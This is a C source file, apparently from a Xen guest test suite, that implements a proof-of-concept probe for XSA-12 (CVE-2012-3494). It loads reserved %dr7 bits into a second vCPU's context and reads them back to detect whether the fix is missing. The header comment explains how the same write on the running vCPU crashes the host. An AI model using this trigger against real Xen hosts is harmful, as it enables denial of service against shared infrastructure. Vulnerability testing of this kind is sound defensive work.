/*
 * poc_xsa12.c - the XSA-12 step of pvtest-v2-poc (POC=1; called from
 * checks_poc.c, which prints the verdict).  Needs a second vCPU: run the
 * guest with --vcpus 2; with one the step is skipped.
 *
 * XSA-12 (CVE-2012-3494, xen.git e89c6d0573, 4.2): before the fix
 * DR_CONTROL_RESERVED_ZERO was 0xd800 (xen/include/asm-x86/debugreg.h@3.4.0-rc3),
 * so set_debugreg kept bits 32-63 of %dr7.  On the running vCPU Xen then
 * loads them into the real %dr7 (write_debugreg), a #GP inside Xen: the host
 * crashes and no guest sees an answer.  For another vCPU
 * (VCPUOP_initialise: arch_set_info_guest -> set_debugreg(v, 7, ...), v not
 * current) the value is only stored, and while it enables no breakpoint the
 * context switch never loads it (paravirt_ctxt_switch_to, domain.c@3.4.0-rc3):
 * the new vCPU reads it back with get_debugreg(7).  After the fix it reads
 * 0x400: 4.2-4.10 drop the bits, 4.11 and later refuse them (-EINVAL, which
 * arch_set_info_guest ignores: %dr7 keeps its reset value).  Every fixed
 * version gives the same answers, so a replay diverges only where the fix is
 * missing.
 */
#include "pvtest.h"

#define VCPUOP_initialise 0
#define VCPUOP_up         1
#define VCPUOP_down       2
#define VCPUOP_is_up      3
#define HC_get_debugreg   9

/* struct vcpu_guest_context, 64-bit (xen/include/public/arch-x86/xen.h): the
 * offsets of the fields set here (as checks_smp.c) */
#define CTX_SIZE          5168
#define CTX_FLAGS         512
#define CTX_USER_REGS     520
#define CTX_RIP           (CTX_USER_REGS + 128)
#define CTX_CS            (CTX_USER_REGS + 136)
#define CTX_RFLAGS        (CTX_USER_REGS + 144)
#define CTX_RSP           (CTX_USER_REGS + 152)
#define CTX_SS            (CTX_USER_REGS + 160)
#define CTX_KERNEL_SS     4968
#define CTX_KERNEL_SP     4976
#define CTX_CTRLREG       4984
#define CTX_DEBUGREG      5048
#define VGCF_in_kernel    (1 << 2)

static uint8_t x12_ctx[CTX_SIZE] __attribute__((aligned(16)));
static uint8_t x12_stack[4096] __attribute__((aligned(16)));
static volatile unsigned long x12_seen, x12_done;

static void x12_put(unsigned off, uint64_t v) { memcpy(x12_ctx + off, &v, 8); }

/* vCPU 1: read %dr7, say so, take itself down.  It needs no trap table or
 * callbacks: every event channel of the guest is bound to vCPU 0 (the PoC
 * guest maps no shared_info page, so vCPU 1's mask is left as Xen sets it). */
static void __attribute__((noreturn, used)) x12_ap(void)
{
    x12_seen = (unsigned long)xen_hypercall_nr(HC_get_debugreg, 7, 0, 0, 0, 0);
    x12_done = 1;
    HYPERVISOR_vcpu_op(VCPUOP_down, 1, 0);
    for (;;)
        ;
}

/* Bring up vCPU 1 with %dr7 = X12_DR7 in its context.  Returns 0 and what
 * vCPU 1's get_debugreg(7) answered in *seen; or the VCPUOP error (the
 * domain has no vCPU 1: -ENOENT) with *seen 0. */
long poc_xsa12(unsigned long dr7, unsigned long *seen)
{
    *seen = 0;
    long rc = HYPERVISOR_vcpu_op(VCPUOP_is_up, 1, 0);
    if (rc < 0)
        return rc;
    memset(x12_ctx, 0, sizeof(x12_ctx));
    x12_put(CTX_FLAGS, VGCF_in_kernel);
    x12_put(CTX_RIP, (uint64_t)(unsigned long)x12_ap);
    x12_put(CTX_CS, FLAT_KERNEL_CS64);
    x12_put(CTX_RFLAGS, 0x2);
    x12_put(CTX_RSP, (uint64_t)(unsigned long)(x12_stack + sizeof(x12_stack) - 8));
    x12_put(CTX_SS, FLAT_KERNEL_SS64);
    x12_put(CTX_KERNEL_SS, FLAT_KERNEL_SS64);
    x12_put(CTX_KERNEL_SP, (uint64_t)(unsigned long)(x12_stack + sizeof(x12_stack) - 8));
    x12_put(CTX_CTRLREG + 3 * 8, (uint64_t)virt_to_mfn(l4_table()) << 12);
    x12_put(CTX_DEBUGREG + 7 * 8, dr7);
    rc = HYPERVISOR_vcpu_op(VCPUOP_initialise, 1, x12_ctx);
    if (rc)
        return rc;
    rc = HYPERVISOR_vcpu_op(VCPUOP_up, 1, 0);
    if (rc)
        return rc;
    for (unsigned long i = 0; !x12_done && i < 100000000UL; i++)
        pv_yield();
    for (unsigned long i = 0; HYPERVISOR_vcpu_op(VCPUOP_is_up, 1, 0) == 1 && i < 100000UL; i++)
        pv_yield();
    *seen = x12_seen;
    return x12_done ? 0 : -1;
}
